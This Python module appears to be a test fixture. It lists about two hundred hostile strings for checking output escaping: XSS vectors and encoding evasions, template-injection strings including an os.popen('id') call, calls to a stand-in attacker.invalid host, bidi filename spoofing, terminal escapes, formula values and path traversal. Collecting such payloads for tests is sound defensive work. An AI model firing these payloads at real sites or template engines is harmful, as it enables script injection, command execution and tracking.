"""Two hundred texts that try to become something else than text."""

from __future__ import annotations

MEGABYTE = "\u202e" + "The quick brown fox. <b>&</b> " * 34_000
"""About a million characters."""

_PROBE = "window.__pwned=(window.__pwned||0)+1"
_TAGS = [
    f"<script>{_PROBE}</script>",
    f"</script><script>{_PROBE}</script>",
    f"</ScRiPt ><ScRiPt>{_PROBE}</sCrIpT>",
    f"</style><script>{_PROBE}</script>",
    f"</title><script>{_PROBE}</script>",
    f"</textarea><script>{_PROBE}</script>",
    f"</template><script>{_PROBE}</script>",
    f"</noscript><script>{_PROBE}</script>",
    f"--><script>{_PROBE}</script>",
    f"<!--<script>{_PROBE}</script>",
    f"<!--</script><script>{_PROBE}//-->",
    f"]]><script>{_PROBE}</script>",
    f"<![CDATA[<script>{_PROBE}</script>]]>",
    f"<img src=x onerror={_PROBE}>",
    f'<img src="x" onerror="{_PROBE}">',
    f"\"><img src=x onerror='{_PROBE}'>",
    f'\'><img src=x onerror="{_PROBE}">',
    f"<svg onload={_PROBE}>",
    f"<svg><script>{_PROBE}</script></svg>",
    f"<svg><animate onbegin={_PROBE} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_PROBE}"><text>x</text></a></svg>',
    f'<math><mi//xlink:href="data:x,<script>{_PROBE}</script>">',
    f"<iframe srcdoc='<script>parent.{_PROBE}</script>'></iframe>",
    f'<iframe src="javascript:parent.{_PROBE}"></iframe>',
    f"<object data='data:text/html,<script>parent.{_PROBE}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg onload={_PROBE}/>'>",
    f"<a href='javascript:{_PROBE}'>click</a>",
    f"<a href='data:text/html,<script>{_PROBE}</script>'>click</a>",
    f"<form action='javascript:{_PROBE}'><button autofocus>go</button></form>",
    f"<input autofocus onfocus={_PROBE}>",
    f"<select autofocus onfocus={_PROBE}>",
    f"<textarea autofocus onfocus={_PROBE}>",
    f"<details open ontoggle={_PROBE}>",
    f"<video><source onerror={_PROBE}></video>",
    f"<audio src=x onerror={_PROBE}>",
    f"<body onload={_PROBE}>",
    f"<marquee onstart={_PROBE}>x</marquee>",
    f"<div style='animation:x' onanimationstart={_PROBE}>",
    f"<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart={_PROBE}>",
    f"<link rel=stylesheet href='data:text/css,*{{}}' onload={_PROBE}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_PROBE}'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<base href='https://attacker.invalid/'>",
    "<img src='https://attacker.invalid/pixel.gif'>",
    "<link rel=prefetch href='https://attacker.invalid/'>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://attacker.invalid/x.css';</style>",
    "<plaintext>",
    "<xmp>",
    "<table><tr><td>",
    "</div></div></main></body></html>",
    "</p></section></article>",
    "<input name=search id=search>",
    "<form id=filters><input name=hidden></form>",
    "<a id=packed>",
    "<x onclick=1 id=__proto__>",
    "&lt;script&gt;already escaped&lt;/script&gt;",
    f"&#60;script&#62;{_PROBE}&#60;/script&#62;",
    f"\u003cscript\u003e{_PROBE}\u003c/script\u003e",
    f"\\u003cscript\\u003e{_PROBE}\\u003c/script\\u003e",
    f"%3Cscript%3E{_PROBE}%3C/script%3E",
    f"+ADw-script+AD4-{_PROBE}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{_PROBE}\uff1c/script\uff1e",
    f"<\x00script>{_PROBE}</script>",
    f"<scr\x00ipt>{_PROBE}</scr\x00ipt>",
    f"<script\x0c>{_PROBE}</script>",
    f"<script/x>{_PROBE}</script>",
    f"<<script>{_PROBE}//<</script>",
]
_MARKDOWN = [
    f"[click](javascript:{_PROBE})",
    f'![x](x"onerror="{_PROBE})',
    "![pixel](https://attacker.invalid/pixel.gif)",
    f"<javascript:{_PROBE}>",
    "[x]: https://attacker.invalid/ 'title'",
    f"```html\n<script>{_PROBE}</script>\n```",
    f"`<img src=x onerror={_PROBE}>`",
    f"| a | b |\n|---|---|\n| <svg onload={_PROBE}> | x |",
    "# heading\n\n- list\n\n> quote\n\n***bold***",
    "$$\\href{javascript:alert(1)}{x}$$",
]
_TEMPLATES = [
    "{{ 7 * 7 }}", "{{ config }}", "{{ run.folder }}", "{% raw %}", "{% endraw %}", "{% include 'report.css' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# comment #}", "{{", "}}", "{%", "{{ policy|safe }}", "{0}", "{name}", "{0.__class__}", "%s %d %(name)s",
    "%n%n%n", "${7*7}", "#{7*7}", "<%= 7*7 %>", "f'{7*7}'", "{!r}", "{:>10}", "\\N{BULLET}", "$&", "$1 $` $'",
    "[bold red]rich[/]", "[link=https://attacker.invalid]x[/link]",
]  # fmt: skip
_DIRECTIONS = [
    f"a{mark}gpj.exe b"
    for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u206a\u206f"
]
_ZERO_WIDTH = [
    f"pass{mark}word"
    for mark in "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u115f\u1160\u17b4\u180e\u3164\uffa0"
] + ["tag\U000e0041\U000e0042", "selector\U000e0100", "\u2028line", "\u2029paragraph", "\ufff9a\ufffab\ufffb"]
_CONTROLS = [
    f"control {chr(code)} here" for code in (*range(0x01, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9B)
]
_TERMINAL = [
    "\x1b[2Jcleared",
    "\x1b]0;title\x07",
    "\x1b]8;;https://attacker.invalid\x1b\\link\x1b]8;;\x1b\\",
    "back\x08\x08space",
]
_ODD = [
    "", " ", "\n\n\n", "\t" * 50, "=1+1", "@SUM(A1)", "-2+3", "null", "undefined", "NaN", "__proto__", "constructor",
    "\ud800 lone high", "lone low \udfff", "\ufffe\uffff", "Z" + "\u0335\u0321\u0348" * 60, "\u0628" * 200, "x" * 5000,
    "\U0001f469\u200d\U0001f4bb \u2764\ufe0f", "a\r\nb\rc", "⟨U+202E⟩", "../../etc/passwd", "C:\\nul", "file:///etc/passwd",
]  # fmt: skip

PAYLOADS: list[str] = [
    *_TAGS,
    *_MARKDOWN,
    *_TEMPLATES,
    *_DIRECTIONS,
    *_ZERO_WIDTH,
    *_CONTROLS,
    *_TERMINAL,
    *_ODD,
    MEGABYTE,
]
